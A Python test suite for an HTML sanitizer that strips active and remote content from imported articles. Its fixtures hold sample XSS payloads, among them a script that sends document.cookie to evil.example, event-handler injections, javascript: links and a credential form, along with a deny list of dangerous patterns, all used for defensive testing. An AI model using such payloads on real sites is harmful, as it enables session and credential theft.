"""Imported HTML: rebuilt from an allowlist, so nothing active or remote survives."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gutsleep.articles import limits
from gutsleep.articles.sanitize import ALLOWED_TAGS, sanitize_html

HOSTILE = """
<html><head>
<title>Evil page</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/s.css">
<style>body { background: url(http://evil.example/track.png) }</style>
<script>document.location = 'http://evil.example/?' + document.cookie</script>
</head>
<body onload="steal()">
<h1 style="background:url(http://evil.example/x.png)" id="top">Welcome</h1>
<p onclick="steal()" onmouseover='steal()' class="x">Click <a href="javascript:steal()">here</a>
or <a href=" JAVASCRIPT:steal()">there</a> or <a href="https://doi.org/10.1/x">a paper</a>.</p>
<img src="http://evil.example/pixel.gif" onerror="steal()">
<img src="data:image/png;base64,AAAA">
<iframe src="http://evil.example/frame"><p>fallback</p></iframe>
<object data="x.swf"><embed src="x.swf"></object>
<embed src="y.swf">
<form action="http://evil.example/"><input name="pw"><button>Go</button></form>
<svg onload="steal()"><script>steal()</script></svg>
<table><tr><td colspan="2" style="x" onclick="y">cell</td></tr></table>
<ol start="3"><li>three</li></ol>
<!-- a comment --><![CDATA[ data ]]>
</body></html>
"""

ATTRIBUTE_ON = re.compile(r"<[^>]*\son[a-z]*\s*=", re.IGNORECASE)
DANGEROUS = (
    "<script",
    "<iframe",
    "<img",
    "<style",
    "<link",
    "<meta",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<svg",
    "javascript:",
    "evil.example",
    "steal",
    "url(",
)


def _assert_safe(html: str) -> None:
    lowered = html.lower()
    for needle in DANGEROUS:
        assert needle not in lowered, needle
    assert not ATTRIBUTE_ON.search(html)
    for tag in re.findall(r"</?([a-zA-Z0-9]+)", html):
        assert tag in ALLOWED_TAGS, tag
    for attr in re.findall(r"\s([a-z-]+)=", " ".join(re.findall(r"<[^>]*>", html))):
        assert attr in {"href", "name", "colspan", "rowspan", "align", "start", "border",
                        "cellspacing", "cellpadding"}, attr  # fmt: skip


def test_hostile_page_is_defused() -> None:
    result = sanitize_html(HOSTILE)
    _assert_safe(result.html)
    assert result.title == "Evil page"
    assert '<a href="https://doi.org/10.1/x">a paper</a>' in result.html
    assert "Click here" in result.html and "or there or" in result.html
    assert '<td colspan="2">cell</td>' in result.html
    assert '<ol start="3"><li>three</li></ol>' in result.html
    assert "fallback" not in result.html
    assert "comment" not in result.html
    assert [s.anchor for s in result.sections] == ["top"]


def test_headings_get_unique_anchors() -> None:
    result = sanitize_html(
        "<h2>Part</h2><h2>Part</h2><h3 id='bad id'>Odd &amp; end</h3><h2 id='x'>X</h2>"
    )
    assert [(s.anchor, s.title, s.level) for s in result.sections] == [
        ("part", "Part", 2),
        ("part-2", "Part", 2),
        ("odd-end", "Odd & end", 3),
        ("x", "X", 2),
    ]
    assert '<h2><a name="part-2"></a>Part</h2>' in result.html
    assert '<h3><a name="odd-end"></a>Odd &amp; end</h3>' in result.html


def test_first_h1_is_the_title_without_a_title_tag() -> None:
    assert sanitize_html("<h1>Heading title</h1><p>x</p>").title == "Heading title"
    assert sanitize_html("<p>x</p>").title is None


def test_unclosed_and_stray_tags_are_balanced() -> None:
    html = sanitize_html("<p><strong>bold <em>both</p></div></span>text").html
    assert html == "<p><strong>bold <em>both</em></strong></p>text"


def test_text_is_escaped_again() -> None:
    html = sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; more</p>").html
    assert html == "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; more</p>"


FRAGMENTS = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<SCRIPT src=//x>",
        "<img src=x onerror=alert(1)>",
        "<iframe",
        "</iframe>",
        "<a href='javascript:alert(1)'>",
        '<a href="https://ok.org">',
        "</a>",
        "<style>",
        "</style>",
        "<link rel=x>",
        "<h2 id=a>",
        "</h2>",
        "<h1>",
        "<p onclick=x>",
        "<svg onload=1>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<!doctype html>",
        "<?php ?>",
        "<",
        ">",
        "/",
        "=",
        "'",
        '"',
        " on",
        "onload",
        " ",
        "\n",
        "&",
        "&lt;",
        "&#x3c;script&#x3e;",
        "<scr",
        "ipt>",
        "<table><tr><td>",
        "<title>",
        "</title>",
        "<object>",
        "<embed src=x>",
        "<form>",
        "<b",
        "<a name='x'>",
        "javascript:",
    ]
)
HTMLISH = st.lists(st.one_of(FRAGMENTS, st.text(max_size=6)), max_size=40).map("".join)


@given(HTMLISH)
@example("<scr<script>ipt>alert(1)</script>")
@example('<a href="x" onclick="y">z</a><p title=\'a" onmouseover="b\'>c</p>')
@example("<![if !IE]><img src=x onerror=y><![endif]>")
@example("<!")
def test_random_html_never_yields_active_content(raw: str) -> None:
    result = sanitize_html(raw)
    assert "<script" not in result.html.lower()
    assert not ATTRIBUTE_ON.search(result.html)
    for tag in re.findall(r"</?([a-zA-Z0-9]+)", result.html):
        assert tag in ALLOWED_TAGS


@given(HTMLISH)
def test_sanitising_twice_keeps_sections(raw: str) -> None:
    once = sanitize_html(raw)
    twice = sanitize_html(once.html)
    assert twice.html == once.html
    assert twice.sections == once.sections


@given(st.text(max_size=200))
def test_plain_strings_never_crash(raw: str) -> None:
    _assert_safe(sanitize_html(raw).html.replace("steal", "s").replace("url(", "u"))


def test_elements_pages_leave_open_are_closed_as_html_implies() -> None:
    html = sanitize_html("<p>a<p>b<ul><li>x<li>y</ul><dl><dt>t<dd>d</dl>").html
    assert html == "<p>a</p><p>b</p><ul><li>x</li><li>y</li></ul><dl><dt>t</dt><dd>d</dd></dl>"
    # A long sloppy page is not "nested" hundreds of levels deep.
    many = sanitize_html("<p>paragraph" * 500 + "<ul>" + "<li>item" * 500)
    assert many.html.count("<p>") == 500 and many.html.count("<li>") == 500


def test_tables_nested_past_the_limit_become_text() -> None:
    html = sanitize_html(
        "<table><tr><td><table><tr><td><table><tr><td>a<td>b<tr><td>c</table></table></table>"
    ).html
    assert html.count("<table") == limits.MAX_TABLE_DEPTH
    assert "<td>a b <br />c <br /></td>" in html


def test_comments_declarations_and_open_markup_at_the_end_are_dropped() -> None:
    html = sanitize_html("<p>keep</p><!-- gone --><!DOCTYPE x><?php no ?><p>more</p><!-- open")
    assert html.html == "<p>keep</p><p>more</p>"
    assert sanitize_html("<p>text</p><a href='x").html == "<p>text</p>"
    assert sanitize_html("<p>a &lt; b</p> 1 < 2").html == "<p>a &lt; b</p> 1 &lt; 2"


def test_too_deep_documents_are_refused_with_the_limit() -> None:
    with pytest.raises(limits.ArticleLimitError, match="more than 40 levels"):
        sanitize_html("<div>" * (limits.MAX_DEPTH + 1))
    assert sanitize_html("<div>" * limits.MAX_DEPTH + "ok").html.count("<div>") == 40
